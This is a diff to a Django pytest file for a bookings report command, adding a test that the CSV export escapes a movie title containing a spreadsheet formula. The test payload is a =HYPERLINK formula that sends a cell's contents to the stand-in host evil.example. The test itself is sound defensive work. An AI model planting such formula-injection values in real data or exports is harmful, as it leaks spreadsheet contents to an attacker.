@@ -6,7 +6,8 @@ import io
 import pytest
 from django.core.management import CommandError, call_command
 
-from bookings.tests.report_fixtures import EXPECTED_TIME_SLOT, EXPECTED_WEEKDAY, build_week
+from bookings.tests.report_fixtures import EXPECTED_TIME_SLOT, EXPECTED_WEEKDAY, build_week, local
+from theaters.tests.factories import ShowtimeFactory
 
 
 @pytest.fixture
@@ -83,3 +84,15 @@ def test_an_empty_range_prints_zeroes(db):
 def test_it_refuses_bad_arguments(db, args, message):
     with pytest.raises(CommandError, match=message):
         run(*args)
+
+
+def test_its_csv_never_carries_a_live_formula_from_a_movie_title(week):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    ShowtimeFactory(movie__title=evil, starts_at=local(week.monday, 15))
+
+    output = run("--group-by", "movie", *week_range(week), "--format", "csv")
+
+    rows = {line[1]: line for line in csv.reader(io.StringIO(output))}
+    assert evil not in rows
+    assert rows["'" + evil][2:] == ["1", "0", "0", "0.00", "0.0000"]
+    assert rows["Alpha"][2:] == ["2", "2", "5", "44.00", "0.1000"]
